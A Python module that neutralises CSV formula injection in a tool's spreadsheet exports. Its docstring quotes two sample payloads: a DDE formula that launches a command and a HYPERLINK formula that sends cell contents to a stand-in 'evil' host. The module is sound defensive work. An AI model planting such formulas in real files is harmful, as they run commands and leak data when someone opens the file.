"""CSV cells that are safe to open in a spreadsheet (CSV injection, issue 16).

A spreadsheet treats a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a formula, and tab
or carriage return at the start can smuggle one past a first check; ``=cmd|' /C calc'!A0`` or
``=HYPERLINK("https://evil/?"&A1)`` typed by a respondent would run, or leak other cells, when
an operator opens the export. Following the OWASP "CSV Injection" guidance such a cell is written
with a leading single quote (``'=1+2``), which spreadsheets show as text.

Exception: a cell that is only a signed number or a phone number (digits, spaces, ``.``, ``,``,
``(``, ``)``, ``/``, ``-`` after a leading ``+`` or ``-``, e.g. ``+1 646 555 0160``, ``-12.5``) is
left alone: it cannot call a function or reference another cell, and E.164 numbers stay as they
are. Values that are not strings (numbers, None) are never changed.

Every CSV customario writes for people (``leads export``, the rejects file, ``export
responses`` and its codebook, ``payments export``, ``insights --csv`` and the ``--csv`` of every
listing) goes through :func:`writer`; ``--raw`` on the export commands turns it off for programs
that need the bytes exactly as stored.
"""

from __future__ import annotations

import csv
import re
from typing import Any, Iterable, TextIO

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-][0-9][0-9 .,()/\-]*")


def neutralise(value: Any) -> Any:
    """``value`` made inert for a spreadsheet: a string starting with a formula trigger gets a
    leading ``'`` (unless it is only a signed number or phone number); anything else unchanged."""
    if isinstance(value, str) and value[:1] in TRIGGERS and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


class _SafeWriter:
    """A ``csv.writer`` whose cells pass through :func:`neutralise` (unless ``raw``)."""

    def __init__(self, fh: TextIO, raw: bool, **kwargs: Any):
        self._w = csv.writer(fh, **kwargs)
        self._raw = raw

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow(row if self._raw else [neutralise(v) for v in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(fh: TextIO, *, raw: bool = False, **kwargs: Any) -> _SafeWriter:
    """``csv.writer(fh, **kwargs)`` with spreadsheet-safe cells; ``raw=True`` writes them as given."""
    return _SafeWriter(fh, raw, **kwargs)


class _SafeDictWriter(csv.DictWriter):
    def __init__(self, fh: TextIO, fieldnames, *, raw: bool = False, **kwargs: Any):
        super().__init__(fh, fieldnames, **kwargs)
        self._raw = raw

    def writerow(self, rowdict):
        if not self._raw:
            rowdict = {k: neutralise(v) for k, v in rowdict.items()}
        return super().writerow(rowdict)

    def writerows(self, rowdicts):
        for r in rowdicts:
            self.writerow(r)


def dict_writer(fh: TextIO, fieldnames, *, raw: bool = False, **kwargs: Any) -> csv.DictWriter:
    """``csv.DictWriter`` with spreadsheet-safe cells; ``raw=True`` writes them as given."""
    return _SafeDictWriter(fh, fieldnames, raw=raw, **kwargs)
